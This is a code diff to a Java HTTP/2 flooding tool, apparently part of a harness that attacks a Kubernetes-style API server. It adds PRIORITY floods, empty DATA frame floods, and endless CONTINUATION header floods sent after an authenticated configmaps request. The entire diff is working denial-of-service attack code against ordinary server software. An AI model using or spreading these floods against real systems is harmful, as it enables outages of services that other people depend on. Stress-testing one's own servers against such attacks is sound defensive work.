@@ -7,11 +7,27 @@ import java.io.IOException;
 record Floods(Kind kind) implements Attack {
     private static final int FRAMES_MAX = 2_000_000;
     private static final int END_MILLIS = 2_000;
+    private static final int FIRST = 1;
+    private static final String MAPS = "/api/v1/namespaces/default/configmaps";
+    private static final String WATCH = MAPS + "?watch=1";
+    /// Part of a head: `a: b`, a thousand times.
+    private static final byte[] LITERALS = new byte[5_000];
+
+    static {
+        byte[] one = {0, 1, 'a', 1, 'b'};
+        for (int i = 0; i < LITERALS.length; i++) {
+            LITERALS[i] = one[i % one.length];
+        }
+    }
 
     enum Kind {
         PINGS("pings"),
         SETTINGS("settings"),
-        RESETS("requests that are reset at once");
+        RESETS("requests that are reset at once"),
+        PRIORITIES("priorities"),
+        EMPTY_DATA("empty pieces of a body"),
+        CONTINUATIONS("pieces of a head that never ends"),
+        EMPTY_CONTINUATIONS("empty pieces of a head that never ends");
 
         private final String words;
 
@@ -28,6 +44,7 @@ record Floods(Kind kind) implements Attack {
     @Override
     public Siege begin(Victim victim) throws IOException {
         Streams streams = Streams.open(victim, 65_535);
+        first(streams, victim.ann());
         Background.daemon("flood", () -> {
             try {
                 for (int i = 0; i < FRAMES_MAX; i++) {
@@ -51,6 +68,18 @@ record Floods(Kind kind) implements Attack {
         };
     }
 
+    /// What has to be there before the flood.
+    private void first(Streams streams, String token) throws IOException {
+        switch (kind) {
+            case PINGS, SETTINGS, RESETS -> {
+                // nothing
+            }
+            case PRIORITIES -> streams.request("GET", WATCH, token, true);
+            case EMPTY_DATA -> streams.request("POST", MAPS, token, false);
+            case CONTINUATIONS, EMPTY_CONTINUATIONS -> streams.frame(Streams.HEADERS, 0, FIRST, new byte[0]);
+        }
+    }
+
     private void one(Streams streams) throws IOException {
         switch (kind) {
             case PINGS -> streams.frame(Streams.PING, 0, 0, new byte[8]);
@@ -59,6 +88,10 @@ record Floods(Kind kind) implements Attack {
                 int stream = streams.request("GET", "/healthz", "", true);
                 streams.frame(Streams.RESET, 0, stream, new byte[] {0, 0, 0, 8});
             }
+            case PRIORITIES -> streams.frame(Streams.PRIORITY, 0, FIRST, new byte[5]);
+            case EMPTY_DATA -> streams.frame(Streams.DATA, 0, FIRST, new byte[0]);
+            case CONTINUATIONS -> streams.frame(Streams.CONTINUATION, 0, FIRST, LITERALS);
+            case EMPTY_CONTINUATIONS -> streams.frame(Streams.CONTINUATION, 0, FIRST, new byte[0]);
         }
     }
 }
